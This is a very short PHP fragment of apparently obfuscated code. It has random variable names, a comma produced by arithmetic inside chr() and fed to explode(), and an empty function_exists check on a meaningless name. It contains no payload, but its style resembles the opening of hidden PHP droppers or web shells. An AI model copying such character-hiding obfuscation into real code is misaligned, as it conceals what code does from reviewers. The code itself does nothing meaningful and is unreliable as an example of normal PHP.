<?php $kdd = 'x';$vbo=explode(chr((123-79)),'a,b');$mqt=(12+3);if (!function_exists('qzx')) { }
